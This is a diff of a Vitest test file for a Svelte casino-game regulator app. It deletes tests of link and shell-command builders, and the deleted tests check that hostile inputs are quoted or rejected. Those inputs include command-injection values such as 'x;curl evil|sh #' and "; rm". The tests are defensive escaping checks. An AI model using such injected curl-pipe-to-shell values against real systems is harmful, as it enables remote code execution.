@@ -11,10 +11,8 @@ vi.mock('../src/api/client', (original) => fakeClient(original));
 
 import { Refused } from '../src/api/client';
 import App from '../src/App.svelte';
-import { linkOf } from '../src/lab/link';
 import CaseChanges from '../src/regulator/CaseChanges.svelte';
 import Changes from '../src/regulator/Changes.svelte';
-import { commandOf } from '../src/regulator/command';
 import { pauses, RegulatorJob, type Standing } from '../src/regulator/job.svelte';
 import PriceChanges from '../src/regulator/PriceChanges.svelte';
 import Witness from '../src/regulator/Witness.svelte';
@@ -91,25 +89,6 @@ describe('a job', () => {
     const gone = new RegulatorJob(() => Promise.reject(refusal('unknown_job', 404)));
     await gone.resume(ID);
     expect([gone.refusal, gone.busy, gone.standing, gone.gone]).toEqual([null, false, null, true]);
-  });
-});
-
-describe('addresses and commands', () => {
-  it('name the part of the lab and everything that was chosen', () => {
-    const b = { game: 'x', chosen: { decks: '8' } };
-    expect(linkOf({ b, a: null })).toBe('/lab?game=x&set=decks%3D8');
-    expect(linkOf({ b, a: { game: 'y', chosen: {} } }, 'difference')).toBe('/lab/difference?game=x&set=decks%3D8&a=y');
-  });
-
-  it('are what a terminal takes', () => {
-    expect(commandOf({ game: 'x', chosen: { pays: '3:2', decks: '8' } }, null)).toBe(
-      'pitboss petition x --set decks=8 --set pays=3:2 --out petition',
-    );
-    expect(commandOf({ game: 'x', chosen: { pays: "it's ; rm" } }, 100_000)).toBe(
-      String.raw`pitboss petition x --set 'pays=it'\''s ; rm' --rounds 100000 --out petition`,
-    );
-    expect(commandOf({ game: 'x;curl evil|sh #', chosen: {} }, null)).toBe("pitboss petition 'x;curl evil|sh #' --out petition");
-    expect(commandOf({ game: 'x', chosen: { pays: '\u0003curl evil' } }, null)).toBeNull();
   });
 });
 
